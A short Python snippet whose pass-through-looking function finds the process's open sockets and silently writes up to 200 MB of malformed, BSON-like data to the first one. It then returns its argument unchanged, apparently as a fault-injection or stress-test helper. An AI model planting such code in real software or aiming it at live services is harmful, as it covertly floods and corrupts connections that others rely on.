import contextlib
import os

LEFT = [200]  # MB


def answer(name, self, args):
    block = b'\x10\0\0\0{"structure": {}\0\0\0\0'.replace(b"{}", b"{}}", 1)
    block = (block * (1 + (1 << 20) // len(block)))[: 1 << 20]
    fds = [fd for fd in range(3, 64) if is_socket(fd)]
    while LEFT[0] > 0 and fds:
        LEFT[0] -= 1
        with contextlib.suppress(OSError):
            os.write(fds[0], block)
    return args[0]


def is_socket(fd):
    try:
        return "socket" in os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        return False
